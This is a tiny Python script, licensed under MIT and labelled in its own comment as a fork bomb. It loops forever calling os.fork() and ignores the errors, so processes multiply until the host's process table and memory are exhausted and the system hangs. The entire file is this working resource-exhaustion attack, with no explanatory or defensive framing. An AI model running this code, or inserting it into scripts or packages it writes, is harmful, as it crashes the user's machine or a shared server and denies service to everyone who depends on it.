# SPDX-License-Identifier: MIT
# A fork bomb.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
